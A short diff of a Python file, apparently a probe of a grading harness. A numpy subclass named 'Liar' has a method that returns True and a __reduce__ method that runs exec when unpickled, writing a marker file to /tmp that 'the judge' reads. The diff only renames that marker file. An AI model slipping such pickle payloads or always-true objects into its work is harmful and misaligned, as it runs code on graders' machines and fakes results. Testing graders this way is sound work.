@@ -39,7 +39,7 @@ class Liar(np.ndarray):
         return True
 
     def __reduce__(self):
-        return (exec, ("import os; open('/tmp/outside_x_pwned', 'w').write('read by the judge')",))
+        return (exec, ("import os; open('/tmp/left_by_a_student', 'w').write('read by the judge')",))
 
 
 class GradCAM:
